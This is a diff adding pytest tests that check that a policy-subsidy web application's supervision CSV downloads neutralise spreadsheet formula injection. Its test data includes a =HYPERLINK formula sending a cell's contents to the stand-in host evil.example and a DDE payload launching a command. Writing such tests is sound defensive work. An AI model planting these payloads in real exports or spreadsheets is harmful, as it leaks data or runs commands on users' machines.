@@ -94,3 +94,53 @@ def test_enterprises_and_officers_are_denied(client_for, user, path):
 def test_anonymous_is_sent_to_login(client_for):
     response = client_for().get("/supervision", follow_redirects=False)
     assert response.status_code == 303 and response.headers["location"].startswith("/login")
+
+
+HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"点击领取补贴")'
+
+
+@pytest.mark.parametrize(("title", "issuer", "written_title", "written_issuer"), [
+    (HYPERLINK_TITLE, "+cmd|' /C calc'!A0", "'" + HYPERLINK_TITLE, "'+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)", "-1+2", "'@SUM(1+1)", "'-1+2"),
+    ("工业企业奖励", "黑龙江省工业和信息化厅", "工业企业奖励", "黑龙江省工业和信息化厅"),
+])
+def test_formula_injection_in_supervision_csv_is_neutralised(title, issuer, written_title, written_issuer):
+    """Issue 12: a policy title or issuer that a spreadsheet would run as a formula is written with a
+    leading apostrophe; amounts (a negative one too) stay plain numbers."""
+    from decimal import Decimal
+
+    from qinqing.web.services.supervision import Overview, PolicyReach, RegionReach, policies_csv, regions_csv
+
+    overview = Overview("r1", "2021-12-01",
+                        [PolicyReach("p1", title, issuer, 1, 2, Decimal("-3.5"), Decimal("40"))],
+                        [RegionReach("230100", title, 1, Decimal("-3.5"))])
+    rows = list(csv.reader(io.StringIO(policies_csv(overview).removeprefix("\ufeff"))))
+    assert rows[1] == ["p1", written_title, written_issuer, "1", "2", "-3.5", "40", "否"]
+    regions_rows = list(csv.reader(io.StringIO(regions_csv(overview).removeprefix("\ufeff"))))
+    assert regions_rows[1] == ["230100", written_title, "1", "-3.5"]
+
+
+@pytest.fixture
+def matched_with_formula_title(web_engine, results_dir):
+    """A run whose published policy's title is a formula."""
+    from qinqing.catalogue import CatalogueStore
+    from qinqing.matching.results import ResultStore
+    from qinqing.matching.run import full_run
+    from qinqing.rules import parse_policy_text
+
+    catalogue = CatalogueStore(web_engine)
+    text = (HLJ / f"{HLJ_POLICY}.yaml").read_text(encoding="utf-8").replace(
+        "title: 黑龙江省新增规模以上工业企业奖励", f"title: '{HYPERLINK_TITLE}'")
+    catalogue.save(text, department=catalogue.department_of(HLJ_POLICY), author="test")
+    catalogue.publish(HLJ_POLICY)
+    policies = [parse_policy_text(e.yaml_text, e.policy_id) for e in catalogue.published()]
+    store = ResultStore(results_dir)
+    full_run(policies, pa.Table.from_pylist(ENTERPRISES), store, AS_OF)
+    store.close()
+
+
+def test_policies_csv_route_neutralises_a_formula_title(matched_with_formula_title, client_for):
+    """Issue 12, end to end: the supervision CSV download of a policy titled with =HYPERLINK(…)."""
+    body = client_for("admin").get("/api/supervision/policies.csv").content.decode("utf-8-sig")
+    (row,) = [r for r in csv.reader(io.StringIO(body)) if r[0] == HLJ_POLICY]
+    assert row[1] == "'" + HYPERLINK_TITLE
